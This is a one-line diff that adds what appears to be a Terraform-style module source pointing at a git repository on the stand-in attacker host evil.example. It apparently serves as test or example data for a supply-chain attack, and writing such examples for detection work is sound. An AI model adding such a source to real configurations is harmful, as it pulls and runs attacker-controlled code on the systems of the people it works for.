@@ -1,0 +1,1 @@
+source = "git::https://evil.example/m.git"
